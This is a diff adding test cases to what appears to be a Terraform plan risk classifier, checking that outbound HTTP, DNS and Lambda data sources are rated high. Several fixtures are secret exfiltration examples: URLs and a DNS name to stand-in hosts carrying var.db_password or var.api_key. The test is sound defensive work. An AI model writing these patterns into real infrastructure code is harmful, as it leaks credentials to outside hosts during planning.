@@ -130,6 +130,49 @@ resource "terraform_data" "bootstrap" {
     [['data.external.git', 'terraform-control.terraform.external-program', 'high']],
   ],
   [
+    'a new data "http" that sends a secret in its URL is high: the request leaves at plan time',
+    ...created('data "http" "ping" {\n  url = "https://status.example.com/?token=${var.db_password}"\n}\n'),
+    [['data.http.ping', 'terraform-control.terraform.outbound-request', 'high']],
+  ],
+  [
+    'a data "http" pointed at another URL is high',
+    { 'main.tf': 'data "http" "ip" {\n  url = "https://checkip.amazonaws.com"\n}\n' },
+    { 'main.tf': 'data "http" "ip" {\n  url = "https://collector.example.net/?k=${var.api_key}"\n}\n' },
+    [['data.http.ip', 'terraform-control.terraform.outbound-request', 'high']],
+  ],
+  [
+    'removing a data "http" sends nothing: the default tier',
+    { 'main.tf': 'data "http" "ip" {\n  url = "https://checkip.amazonaws.com"\n}\n' },
+    { 'main.tf': '' },
+    [['data.http.ip', 'default', 'low']],
+  ],
+  [
+    'a DNS lookup of a name built from a secret is high: the query carries it out',
+    ...created('data "dns_a_record_set" "x" {\n  host = "${var.db_password}.exfil.example.net"\n}\n'),
+    [['data.dns_a_record_set.x', 'terraform-control.terraform.outbound-request', 'high']],
+  ],
+  [
+    'invoking a Lambda function from a data source is high: it runs at every plan',
+    ...created(
+      'data "aws_lambda_invocation" "seed" {\n  function_name = "seeder"\n  input         = jsonencode({ key = var.db_password })\n}\n',
+    ),
+    [['data.aws_lambda_invocation.seed', 'terraform-control.aws.lambda-invocation', 'high']],
+  ],
+  [
+    'a check block with a nested data "http" is high: it is read at every plan',
+    ...created(
+      'check "health" {\n  data "http" "ping" {\n    url = "https://status.example.com/?t=${var.db_password}"\n  }\n  assert {\n    condition     = data.http.ping.status_code == 200\n    error_message = "down"\n  }\n}\n',
+    ),
+    [['check.health', 'terraform-control.terraform.check-request', 'high']],
+  ],
+  [
+    'a check block of assertions only sends nothing: the default tier',
+    ...created(
+      'check "ok" {\n  assert {\n    condition     = length(var.name) > 2\n    error_message = "short"\n  }\n}\n',
+    ),
+    [['check.ok', 'default', 'low']],
+  ],
+  [
     'reading remote state is medium',
     ...created('data "terraform_remote_state" "net" {\n  backend = "s3"\n}\n'),
     [['data.terraform_remote_state.net', 'terraform-control.terraform.remote-state', 'medium']],
